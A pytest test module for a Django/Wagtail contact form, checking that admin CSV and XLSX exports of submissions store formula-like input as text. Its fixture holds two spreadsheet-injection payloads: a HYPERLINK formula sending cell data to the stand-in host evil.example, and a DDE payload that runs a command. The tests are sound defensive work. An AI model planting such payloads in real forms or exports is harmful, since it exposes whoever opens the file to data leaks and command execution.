"""The feedback submissions exported from the admin («Скачать CSV / XLSX») as text, never formulas."""

import csv
import io
from http import HTTPStatus

import pytest
from django.test import Client
from django.urls import reverse
from openpyxl import load_workbook

from tests.home.test_contact import POST

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1;"Нажмите")'


@pytest.fixture
def hostile_submission(site_pages):
    answers = {
        **POST,
        "vashe_imia": HYPERLINK,
        "nomer_uchastka": "+7 999 1234567",
        "soobshchenie": "@SUM(1+1)*cmd|' /C calc'!A0",
    }
    assert Client().post(site_pages.contact.url, answers).status_code == HTTPStatus.OK  # a visitor
    return site_pages.contact


def export(client, page, export_format):
    url = reverse("wagtailforms:list_submissions", args=[page.pk])
    response = client.get(url, {"export": export_format})
    assert response.status_code == HTTPStatus.OK
    return response


def test_csv_export_neutralises_formulas(editor_client, hostile_submission):
    response = export(editor_client, hostile_submission, "csv")
    rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))
    assert rows[0][1:] == ["Ваше имя", "Электронная почта", "Номер участка", "Сообщение"]
    name, email, plot, message = rows[1][1:]
    assert name == "'" + HYPERLINK
    assert email == "ivan@example.org"
    assert plot == "'+7 999 1234567"
    assert message == "'@SUM(1+1)*cmd|' /C calc'!A0"
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for row in rows[1:] for cell in row)


def test_xlsx_export_holds_text_not_formulas(editor_client, hostile_submission):
    response = export(editor_client, hostile_submission, "xlsx")
    sheet = load_workbook(io.BytesIO(b"".join(response.streaming_content))).active
    cells = [cell for row in sheet.iter_rows(min_row=2) for cell in row]
    assert all(cell.data_type != "f" for cell in cells)
    assert "'" + HYPERLINK in [cell.value for cell in cells]


def test_the_submissions_list_still_opens(editor_client, hostile_submission):
    url = reverse("wagtailforms:list_submissions", args=[hostile_submission.pk])
    response = editor_client.get(url)
    assert response.status_code == HTTPStatus.OK
    assert "ivan@example.org" in response.content.decode()
